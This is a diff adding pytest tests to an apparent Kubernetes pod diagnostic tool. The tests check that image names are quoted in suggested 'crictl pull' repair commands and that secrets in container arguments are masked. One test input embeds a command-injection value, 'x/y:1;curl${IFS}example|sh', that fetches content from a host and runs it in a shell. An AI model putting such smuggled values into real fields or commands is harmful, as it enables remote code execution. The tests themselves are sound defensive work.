@@ -115,6 +115,28 @@ def test_why_an_image_is_not_pulled(reason, message, cause):
     assert cause in observed("POD-01", document)[0].cause
 
 
+@pytest.mark.parametrize(
+    ("image", "reason", "command"),
+    [
+        ("${REGISTRY}/metrics-server:v0.7.2", "ErrImagePull", "crictl pull '${REGISTRY}/metrics-server:v0.7.2'"),
+        ("{name}/a:{}", "ErrImagePull", "crictl pull '{name}/a:{}'"),
+        ("x/y:1;curl${IFS}example|sh", "ErrImagePull", "crictl pull 'x/y:1;curl${IFS}example|sh'"),
+        ("r.example/a:1", "ErrImagePull", "crictl pull r.example/a:1"),
+        ("{{ registry }}/a:1", "InvalidImageName", "kubectl --namespace kube-system edit deployment metrics-server"),
+    ],
+)
+def test_names_of_images_are_no_part_of_a_command_s_form(image, reason, command):
+    document = captured("POD-01")
+    document["api"]["objects"]["workloads"][0]["owner"] = "somebody else"
+    for container in pod_of(document)["containers"]:
+        container["image"] = image
+        container["state"].update(kind="waiting", reason=reason)
+    (observation, *_rest) = observed("POD-01", document)
+    assert any(image in line for line in observation.evidence)
+    assert observation.repair.commands[0].partition("  #")[0] == command
+    assert ("none that a runtime can read" in observation.cause) is (reason == "InvalidImageName")
+
+
 def test_an_image_of_the_sandbox_is_named():
     document = captured("POD-01")
     pod = pod_of(document)
@@ -160,6 +182,15 @@ def test_what_upstream_says_of_its_flags(line):
     pod_of(document)["log"] = [line]
     pod_of(document).pop("previous_log", None)
     assert line in observed("POD-06", document)[0].evidence[0]
+
+
+def test_arguments_are_quoted_without_what_is_secret_in_them():
+    document = captured("POD-06")
+    for container in pod_of(document)["containers"]:
+        container["args"] = ["-c", "exec /metrics-server --password hunter2secret", "--api-key=hunter2secret"]
+    (observation, *_rest) = observed("POD-06", document)
+    assert "hunter2secret" not in " ".join(observation.evidence)
+    assert any("args: -c exec /metrics-server --password ********" in line for line in observation.evidence)
 
 
 def test_what_upstream_prints_of_its_flags_when_it_ends_is_no_refusal():
